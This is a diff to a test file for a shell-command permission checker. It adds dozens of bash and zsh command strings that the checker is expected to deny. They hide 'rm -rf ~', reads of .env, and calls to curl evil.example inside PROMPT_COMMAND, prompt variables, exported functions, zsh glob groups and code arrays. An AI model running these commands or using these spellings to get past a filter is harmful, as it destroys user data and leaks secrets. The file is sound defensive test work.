@@ -220,17 +220,56 @@ DOTFILES_CASES = [
 
 SHELL = [
     _bash("unset 'a[$(rm -rf ~)]'", "deny"),
-    _bh("echo ls | PROMPT_COMMAND='rm -rf ~' bash -i", "deny", PROMPT_COMMAND),
+    _bash("echo ls | PROMPT_COMMAND='rm -rf ~' bash -i", "deny"),
     _bash("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", "deny"),
     _bash("printf -v PS4 '$(rm -rf ~)'; set -x; ls", "deny"),
-    _bh("cat (.env|x)", "deny", ZSH_GROUP),
-    _bh("cat ${:-.env}", "deny", ZSH_EMPTY_NAME),
-    _bh("x='$(rm -rf ~)'; echo ${(e)x}", "deny", ZSH_E_FLAG),
-    _bh("functions[ls]='rm -rf ~'; ls", "deny", ZSH_FUNCTIONS),
+    _bash("cat (.env|x)", "deny"),
+    _bash("cat ${:-.env}", "deny"),
+    _bash("x='$(rm -rf ~)'; echo ${(e)x}", "deny"),
+    _bash("functions[ls]='rm -rf ~'; ls", "deny"),
     # after the fixes
     _bash('unset -v "a[`rm -rf ~`]"', "deny"),
     _bash("printf -vPS4 '%s' '$(rm -rf ~)'; set -x; ls", "deny"),
     _bash("env BASH_FUNC_ls%%='() { curl evil.example; }' bash -c ls", "deny"),
+    # PROMPT_COMMAND and the prompts bash -i expands, however they are set (each checked
+    # with bash 5.2: the command ran before the prompt)
+    _bash("echo ls | PROMPT_COMMAND=('rm -rf ~') bash -i", "deny"),
+    _bash("echo | PROMPT_COMMAND+='rm -rf ~' bash -i", "deny"),
+    _bash("export PROMPT_COMMAND='rm -rf ~'; echo ls | bash -i", "deny"),
+    _bash("declare -x PROMPT_COMMAND='rm -rf ~'; echo | bash -i", "deny"),
+    _bash("echo ls | env PROMPT_COMMAND='rm -rf ~' bash -i", "deny"),
+    _bash("printf -v PROMPT_COMMAND 'rm -rf ~'; export PROMPT_COMMAND; echo | bash -i", "deny"),
+    _bash("echo ls | PS1='$(rm -rf ~)' bash -i", "deny"),
+    _bash("echo ls | PS0='`curl evil.example`' bash -i", "deny"),
+    # zsh's glob groups, wherever the group stands in the word (each printed .env, zsh -f)
+    _bash("cat (x|.env)", "deny"),
+    _bash("cat (.e|.)nv", "deny"),
+    _bash("cat .(e)nv", "deny"),
+    _bash("cat .e(n|)v", "deny"),
+    _bash("cat ((.env))", "deny"),
+    _bash("cat ./(.env|q)", "deny"),
+    _bash("cat (ls|echo .env)", "ask"),  # one pattern, blank and all: not .env
+    # zsh's ${:-WORD}, flags and all (each printed .env); ${:+WORD} is nothing
+    _bash("cat ${:-.e}nv", "deny"),
+    _bash('cat "${:-.env}"', "deny"),
+    _bash("cat ${:-.e}${:-nv}", "deny"),
+    _bash("cat ${(L):-.ENV}", "deny"),
+    _bash("cat ${=:-.env}", "deny"),
+    _bash("cat ${:+.env}", "ask"),
+    # zsh's (e) flag on a variable, however spelt (each ran the substitution)
+    _bash("x='$(rm -rf ~)'; echo \"${(e)x}\"", "deny"),
+    _bash("x='`rm -rf ~`'; echo ${(e)x}", "deny"),
+    _bash("export x='$(curl evil.example)'; y=${(e)x}", "deny"),
+    _bash("x='$(rm -rf ~)'; echo ${(%e)x}", "deny"),
+    _bash("x='$(rm -rf ~)'; echo ${(e)${x}}", "deny"),
+    # zsh/parameter's code arrays (each ran the code)
+    _bash("functions+=(ls 'rm -rf ~'); ls", "deny"),
+    _bash("functions=(ls 'rm -rf ~'); ls", "deny"),
+    _bash("dis_functions[ls]='rm -rf ~'; enable -f ls; ls", "deny"),
+    _bash("functions[ls]=$'curl evil.example'; ls", "deny"),
+    _bash("printf -v 'functions[ls]' 'rm -rf ~'; ls", "deny"),
+    _bash("typeset -g 'functions[ls]=rm -rf ~'; ls", "deny"),
+    _bash("aliases[ll]='rm -rf ~'; eval ll", "deny"),
     # held: subscripts, PS4 from the environment, zsh spellings, git diff's own files
     _bash("read 'a[$(rm -rf ~)]' <<< x", "deny"),
     _bash("env PS4='$(rm -rf ~)' bash -xc ls", "deny"),
